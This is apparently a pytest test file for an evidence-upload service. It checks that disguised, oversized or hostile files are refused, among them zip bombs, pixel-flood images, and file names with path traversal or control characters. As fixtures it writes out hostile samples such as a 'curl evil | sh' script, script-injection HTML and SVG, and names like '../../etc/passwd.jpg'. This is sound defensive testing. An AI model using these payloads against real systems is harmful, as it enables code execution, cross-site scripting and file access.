"""Files built to deceive or to hurt: content that is not what its name says, archives that
unpack to far more than they weigh, images that declare billions of pixels, and hostile names."""

import gzip
import io
import re
import zipfile
import zlib

import pytest
from django.core.files.base import File
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import ImageFile

from commonground.evidence.actions import (
    Box,
    EvidenceError,
    ingest_upload,
    redact_image,
    start_upload,
)
from commonground.evidence.files import NAME_MAX_CHARS, RejectedFile, clean_name
from commonground.evidence.metadata import MetadataError, plan_copy
from commonground.evidence.models import ItemKind, StoredFile
from commonground.evidence.tests import media
from commonground.evidence.tests.media import jpeg, mp4, pdf, png, uploaded

pytestmark = [pytest.mark.django_db, pytest.mark.files]

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00" + bytes(200)


def staff_ingest(name, content, by):
    return ingest_upload(upload=uploaded(name, content), kind=ItemKind.CASE_FILE, by=by)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("scan.pdf", png(), "“scan.pdf” is not what its name says: its content is image/png."),
        ("photo.png", jpeg(), "“photo.png” is not what its name says: its content is image/jpeg."),
        ("clip.jpg", mp4(5), "“clip.jpg” is not what its name says: its content is video/mp4."),
        ("memo.mp4", pdf(), "“memo.mp4” is not what its name says: its content is application/pdf"),
        ("photo.jpg", b"<!DOCTYPE html><html><script>alert(1)</script>", "is a web page"),
        ("photo.jpg", b"  <html><body onload=alert(1)>", "is a web page"),
        ("photo.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "SVG"),
        ("photo.jpg", b'<svg onload="alert(1)"/>', "is a web page, drawing"),
        ("photo.jpg", b"\xef\xbb\xbf<svg><script>x</script></svg>", "is a web page, drawing"),
        ("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n", "“photo.jpg” is a program or script"),
        ("clip.mp4", PE, "“clip.mp4” is a program or script, not a photo"),
        ("clip.mp4", b"\x7fELF\x02\x01\x01" + bytes(100), "is a program or script"),
    ],
)
def test_content_that_is_not_what_its_name_says_is_refused_specifically(
    investigator, name, content, message
):
    with pytest.raises(RejectedFile, match=re.escape(message)):
        staff_ingest(name, content, investigator)
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("photo.jpg", lambda: media.zip_bomb(), "ZIP"),
        ("statement.pdf", lambda: media.zip_bomb(), "ZIP"),
        ("clip.mp4", lambda: media.gzip_bomb(), "gzip"),
        ("song.mp3", lambda: b"BZh91AY&SY" + bytes(64), "bzip2"),
        ("photo.webp", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(64), "7-Zip"),
        ("photo.heic", lambda: b"\xfd7zXZ\x00" + bytes(64), "xz"),
        (
            "report.pdf",
            lambda: b"report.txt".ljust(257, b"\x00") + b"ustar\x0000" + bytes(300),
            "tar",
        ),
    ],
)
def test_archives_and_zip_bombs_are_refused_by_their_content_without_being_unpacked(
    investigator, monkeypatch, name, content, kind
):
    content = content()

    def unpacked(*args, **kwargs):
        raise AssertionError("an archive was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", unpacked)
    monkeypatch.setattr(gzip, "decompress", unpacked)
    monkeypatch.setattr(zlib, "decompressobj", unpacked)
    with pytest.raises(RejectedFile, match=rf"is a compressed archive \({kind}\)"):
        staff_ingest(name, content, investigator)
    assert not StoredFile.objects.exists()


def test_the_zip_bomb_really_is_one():
    bomb = media.zip_bomb()
    assert len(bomb) < 1_000_000
    with zipfile.ZipFile(io.BytesIO(bomb)) as bundle:
        assert bundle.infolist()[0].file_size == 200 * 1024 * 1024


def test_an_office_document_is_an_archive_too(investigator):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        bundle.writestr("[Content_Types].xml", "<Types/>")
        bundle.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(RejectedFile, match="compressed archive"):
        staff_ingest("letter.pdf", out.getvalue(), investigator)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("flood.png", media.png_declaring(50_000, 50_000)),
        ("flood.jpg", media.jpeg_declaring(50_000, 50_000)),
        ("wide.png", media.png_declaring(9_000, 8_000)),  # 72 million, under Pillow's own error
        ("flood.heic", media.heic_with_metadata(50_000, 50_000)),
    ],
)
@pytest.mark.parametrize("resident", [True, False])
def test_an_image_declaring_too_many_pixels_is_refused_before_it_is_decoded(
    investigator, monkeypatch, name, content, resident
):
    assert len(content) < 2_000

    def decoded(self, *args, **kwargs):
        raise AssertionError("the pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decoded)
    with pytest.raises(RejectedFile, match=f"“{name}” has too many pixels to be opened safely"):
        if resident:
            ingest_upload(upload=uploaded(name, content), strip_metadata=True)
        else:
            staff_ingest(name, content, investigator)
    assert not StoredFile.objects.exists()


def test_the_pixel_limit_is_a_setting(investigator, settings):
    settings.IMAGE_MAX_PIXELS = 1_000
    with pytest.raises(RejectedFile, match=re.escape("the most we accept is 0.001 million")):
        staff_ingest("a.png", png((40, 30)), investigator)
    settings.IMAGE_MAX_PIXELS = 1_200
    assert staff_ingest("a.png", png((40, 30)), investigator).content_type == "image/png"


def test_an_image_whose_header_is_not_of_its_type_is_refused(investigator):
    broken = jpeg()[:2] + b"\xff\xc0\x00\x02" + bytes(30)
    with pytest.raises(
        RejectedFile, match=re.escape("“broken.jpg” is damaged, or is not really a JPEG")
    ):
        staff_ingest("broken.jpg", broken, investigator)


def test_a_stored_pixel_flood_cannot_be_redacted_and_is_refused_in_words(supervisor, settings):
    photo = staff_ingest("scene.png", png((400, 300)), supervisor)
    settings.IMAGE_MAX_PIXELS = 1_000
    from PIL import Image

    previous, Image.MAX_IMAGE_PIXELS = Image.MAX_IMAGE_PIXELS, 1_000
    try:
        with pytest.raises(EvidenceError, match="too many pixels"):
            redact_image(item=photo, by=supervisor, boxes=[Box(1, 1, 5, 5)], purpose="release")
    finally:
        Image.MAX_IMAGE_PIXELS = previous


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("/etc/shadow.jpg", "shadow.jpg"),
        ("..\\..\\boot.ini.jpg", "boot.ini.jpg"),
        ("C:\\Windows\\System32\\evil.jpg", "evil.jpg"),
        ("evil\x00.exe.jpg", "evil.exe.jpg"),
        ("line\nbreak\r.jpg", "line break.jpg"),
        ("bell\x07\x1b[31m.jpg", "bell[31m.jpg"),
        ("photo\u202egpj.exe.jpg", "photogpj.exe.jpg"),
        ('what"if<it>:was|so?*.jpg', "what_if_it__was_so__.jpg"),
        ("CON.jpg", "_CON.jpg"),
        ("   .jpg", "jpg"),
        ("...", "upload"),
        ("..", "upload"),
        ("", "upload"),
        ("é" * 300 + ".jpg", "é" * 146 + ".jpg"),
    ],
)
def test_hostile_names_are_cleaned_and_never_used_for_storage(investigator, sent, shown):
    assert clean_name(sent) == shown
    upload = File(io.BytesIO(jpeg()), name=sent)  # as a manifest or a script may pass it
    if "." not in shown:
        with pytest.raises(RejectedFile, match="not what its name says"):
            ingest_upload(upload=upload, kind=ItemKind.CASE_FILE, by=investigator)
        return
    item = ingest_upload(upload=upload, kind=ItemKind.CASE_FILE, by=investigator)
    assert item.original_name == shown
    assert re.fullmatch(r"evidence/\d{4}/\d{2}/[0-9a-f]{32}", item.file.name)
    assert item.custody.get().details["name"] == shown


def test_a_resumable_upload_keeps_only_a_clean_name(custodian):
    session = start_upload(by=custodian, name="..\\..\\x/../cam\x00 7.mp4", size=1000)
    assert session.name == "cam 7.mp4"


@given(st.text(max_size=600))
@hypothesis_settings(max_examples=300, deadline=None)
def test_any_name_is_cleaned_into_a_safe_one(name):
    cleaned = clean_name(name)
    assert cleaned
    assert len(cleaned) <= NAME_MAX_CHARS
    assert not set(cleaned) & set('/\\\x00<>:"|?*\n\r\t')
    assert cleaned.strip(". ") == cleaned
    assert all(c.isprintable() or c in "\u200c\u200d" for c in cleaned)
    assert clean_name(cleaned) == cleaned


@given(
    content_type=st.sampled_from(
        sorted(
            media_types := [
                "image/jpeg",
                "image/png",
                "image/webp",
                "image/heic",
                "video/mp4",
                "video/webm",
                "audio/mpeg",
                "application/pdf",
            ]
        )
    ),
    data=st.binary(max_size=4_000),
)
@hypothesis_settings(max_examples=300, deadline=None)
def test_no_file_makes_the_metadata_reader_fail_other_than_with_a_message(content_type, data):
    try:
        plan_copy(io.BytesIO(data), content_type, name="x")
    except MetadataError as refused:
        assert "x" in str(refused)
